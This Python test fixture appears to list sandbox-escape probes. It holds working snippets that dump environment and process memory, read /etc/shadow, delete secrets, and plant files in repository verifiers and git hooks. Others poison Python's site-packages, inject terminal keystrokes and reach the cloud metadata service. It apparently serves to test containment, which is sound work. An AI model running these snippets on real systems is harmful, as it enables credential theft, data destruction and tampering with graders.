"""Programs that reach for files, secrets and the network."""

ATTACKS = {
    "environment_theft": "import os\nprint(dict(os.environ))\n",
    "environment_of_the_parent": """
import os
for pid in ['self', 'thread-self', '1', str(os.getppid()), '@PID@', *filter(str.isdigit, os.listdir('/proc'))]:
    try: print(open(f'/proc/{pid}/environ').read())
    except OSError: pass
""",
    "environment_in_memory": """
import re
maps = open('/proc/self/maps').read().splitlines()
mem = open('/proc/self/mem', 'rb', 0)
for line in maps:
    span, mode = line.split()[:2]
    low, high = (int(part, 16) for part in span.split('-'))
    if 'r' in mode and high - low < 1 << 28:
        try: mem.seek(low); data = mem.read(high - low)
        except (OSError, ValueError, OverflowError): continue
        for found in re.findall(rb'canary-[a-z]+-[0-9a-f]{32}', data): print(found.decode())
""",
    "environment_by_libc": """
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
n = 0
while environ and environ[n]: print(environ[n]); n += 1
""",
    "proc_walk": """
import glob
for path in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/status') + glob.glob('/proc/*/environ'):
    try: print(open(path).read()[:4000])
    except OSError: pass
try: open('/proc/@PID@/status'); print('ESCAPED sees the host process')
except OSError: pass
""",
    "memory_of_the_host": """
for pid in ('@PID@',):
    try: open(f'/proc/{pid}/mem', 'r+b', 0); print('ESCAPED opened memory of the host')
    except OSError: pass
""",
    "descriptor_walk": """
import os
for d in range(3, 1024):
    try: kind = os.readlink(f'/proc/self/fd/{d}')
    except OSError: continue
    print(d, kind)
    for read in (os.read, os.pread):
        try:
            os.set_blocking(d, False)
            print(read(d, 65536) if read is os.read else read(d, 65536, 0))
        except (OSError, TypeError): pass
""",
    "descriptors_of_the_host": """
import os
for d in range(64):
    try: print(open(f'/proc/@PID@/fd/{d}').read(1000)); print('ESCAPED read a descriptor of the host')
    except OSError: pass
    except UnicodeDecodeError: pass
""",
    "root_of_the_host": """
for pid in (1, @PID@):
    for path in ('root@DIR@/secret', 'cwd/../secret', 'root/etc/shadow'):
        try: print(open(f'/proc/{pid}/{path}').read())
        except OSError: pass
""",
    "reads_the_secret": "print(open('@DIR@/secret').read())\n",
    "reads_passwords": """
for path in ('/etc/shadow', '/etc/gshadow', '/etc/ssl/private', '/root/.bash_history', '/root/.netrc'):
    try: print('ESCAPED', path, len(open(path).read()))
    except OSError: pass
""",
    "walks_the_home": """
import os
for home in ('@HOME@', '/root', '/home', os.path.expanduser('~')):
    for folder, _, files in os.walk(home):
        for name in files[:50]:
            if name == 'secret':
                try: print(open(os.path.join(folder, name)).read())
                except OSError: pass
""",
    "reads_the_repository": """
for path in ('@REPO@/.git/config', '@REPO@/.git/HEAD', '@REPO@/Makefile', '@REPO@/tests/conftest.py'):
    try: print('ESCAPED', path, len(open(path).read()))
    except OSError: pass
""",
    "writes_the_secret": "open('@DIR@/secret', 'w').write('gone')\n",
    "removes_the_secret": "import shutil, os\nshutil.rmtree('@DIR@', ignore_errors=True)\nos.unlink('@DIR@/secret')\n",
    "writes_the_repository": """
for path in ('@REPO@/verifiers/@MARK@.py', '@REPO@/@MARK@', '@REPO@/.git/hooks/@MARK@', '@REPO@/tests/@MARK@.py'):
    try: open(path, 'w').write('planted')
    except OSError: pass
""",
    "writes_everywhere": """
import os
for folder in ('/', '/tmp', '/var/tmp', '/dev/shm', '/etc', '/usr/local/bin', '/root', '@HOME@', '@DIR@', '/run', '/opt'):
    try: open(os.path.join(folder, '@MARK@'), 'w').write('planted')
    except OSError: pass
""",
    "poisons_the_library": """
import importlib.util, json, os, site, sys, sysconfig
for folder in {os.path.dirname(os.__file__), sysconfig.get_path('purelib'), *site.getsitepackages(), *sys.path}:
    for name in ('@MARK@.pth', 'sitecustomize.py', 'usercustomize.py', '@MARK@.py'):
        try: open(os.path.join(folder, name), 'x').write('import os; os.environ["@MARK@"] = "1"')
        except OSError: pass
for module in (json, importlib.util, os):
    for path in (module.__file__, importlib.util.cache_from_source(module.__file__)):
        try: open(path, 'ab').write(b'#@MARK@')
        except OSError: pass
""",
    "poisons_the_next_run": """
import builtins, json, os, sys
sys.path.insert(0, os.getcwd())
builtins.print = lambda *a, **k: None
json.dumps = lambda *a, **k: '{}'
os.environ['@MARK@'] = 'planted'
for folder in ('.', '/tmp', os.environ.get('HOME', '/'), os.environ.get('TMPDIR', '/')):
    for name in ('json.py', 'sitecustomize.py', '@MARK@'):
        try: open(os.path.join(folder, name), 'w').write('raise SystemExit(7)')
        except OSError: pass
""",
    "symlink_out": """
import os
for n, target in enumerate(('@DIR@/secret', '/etc/shadow', '/proc/1/root@DIR@/secret')):
    try:
        os.symlink(target, f'link{n}'); print(open(f'link{n}').read()); open(f'link{n}', 'w').write('gone')
    except OSError: pass
""",
    "hardlink_out": """
import os
for target in ('@DIR@/secret', '@REPO@/Makefile'):
    try: os.link(target, 'hard'); open('hard', 'a').write('gone'); os.unlink('hard')
    except OSError: pass
""",
    "dots_out": """
for n in range(1, 20):
    for path in ('@DIR@/secret', '/etc/shadow'):
        try: print(open('../' * n + path.lstrip('/')).read())
        except OSError: pass
""",
    "rename_and_chmod": """
import os
path = '@DIR@/secret'
for act in (lambda: os.rename(path, '@DIR@/@MARK@'), lambda: os.chmod(path, 0), lambda: os.chown('@DIR@', 1, 1),
            lambda: os.utime(path, (0, 0)), lambda: os.truncate(path, 0), lambda: os.setxattr(path, 'user.x', b'1')):
    try: act()
    except OSError: pass
""",
    "fifo_and_device": """
import os, stat
for make in (lambda: os.mkfifo('@DIR@/@MARK@'), lambda: os.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(254, 0)),
             lambda: os.mknod('mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1))):
    try: make()
    except OSError: pass
for path in ('disk', 'mem', '/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/dev/kvm'):
    try: open(path, 'rb', 0).read(16); print('ESCAPED device', path)
    except OSError: pass
""",
    "terminal_injection": """
import fcntl, os, termios
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/proc/self/fd/0'):
    try: fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b'x'); print('ESCAPED typed into', path)
    except OSError: pass
""",
    "tcp_loopback": """
import socket
for host in ('127.0.0.1', '::ffff:127.0.0.1', 'localhost', '0.0.0.0', '127.8.8.8'):
    try: socket.create_connection((host, @TCP@), 0.2).sendall(b'out')
    except OSError: pass
""",
    "tcp_by_syscalls": """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(41, 2, 1, 0)
address = struct.pack('<H', 2) + struct.pack('>H', @TCP@) + bytes([127, 0, 0, 1]) + bytes(8)
libc.syscall(42, fd, address, 16)
libc.syscall(1, fd, b'out', 3)
""",
    "udp_loopback": """
import socket
for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::ffff:127.0.0.1')):
    try: socket.socket(family, socket.SOCK_DGRAM).sendto(b'out', (host, @UDP@))
    except OSError: pass
""",
    "unix_socket": """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try: socket.socket(socket.AF_UNIX, kind).connect('@DIR@/socket')
    except OSError: pass
""",
    "abstract_socket": """
import socket
socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect('\\0@ABSTRACT@')
""",
    "network_outside": """
import socket, urllib.request
socket.setdefaulttimeout(0.3)
try: socket.create_connection(('1.1.1.1', 53), 0.3); print('ESCAPED connected out')
except OSError: pass
try: urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=0.3); print('ESCAPED metadata service')
except OSError: pass
""",
    "name_lookup": """
import socket
socket.setdefaulttimeout(0.3)
try: print('ESCAPED', socket.getaddrinfo('example.org', 80))
except OSError: pass
""",
    "raw_and_odd_sockets": """
import socket
odd = ((2, 3, 1), (17, 3, 0x0300), (16, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 1), (29, 3, 1), (10, 3, 58))
for family, kind, proto in odd:
    try: socket.socket(family, kind, proto); print('ESCAPED socket of family', family, kind)
    except OSError: pass
""",
    "server_for_others": """
import socket, time
s = socket.socket(); s.bind(('0.0.0.0', @FREE@)); s.listen()
time.sleep(3600)
""",
    "shared_memory_of_others": """
import os
for name in os.listdir('/dev/shm'): print('shm', name, open('/dev/shm/' + name, 'rb').read(200))
""",
    "pyc_of_the_repository": """
import importlib.util, sys
path = importlib.util.cache_from_source('@REPO@/verifiers/panel.py')
try: open(path, 'wb').write(b'@MARK@')
except OSError: pass
""",
}
